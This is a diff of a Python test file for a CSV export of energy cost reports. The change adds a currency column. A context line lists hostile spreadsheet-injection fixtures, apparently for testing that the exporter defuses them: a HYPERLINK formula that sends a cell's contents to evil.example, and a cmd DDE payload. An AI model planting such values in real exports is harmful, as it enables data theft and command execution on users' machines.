@@ -17,7 +17,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc
 def _report(names: list[str], cost: float = 1.5) -> SimpleNamespace:
     lines = {kind: [] for kind in KINDS}
     lines["user"] = [Line("user", n, it_kwh=1.25, cost=cost) for n in names]
-    return SimpleNamespace(lines=lines)
+    return SimpleNamespace(lines=lines, currency="EUR")
 
 
 def _rows(path: Path) -> list[dict[str, str]]:
@@ -44,3 +44,5 @@ def test_ordinary_names_and_negative_numbers_are_unchanged(tmp_path):
     assert {r["cost"] for r in rows} == {"-2.500000"}
     assert {r["it_kwh"] for r in rows} == {"1.250000"}
     assert list(rows[0]) == list(CSV_FIELDS)
+    # The cost column's currency (energy.currency) is on every row: the CSV alone says it.
+    assert list(CSV_FIELDS)[-1] == "currency" and {r["currency"] for r in rows} == {"EUR"}
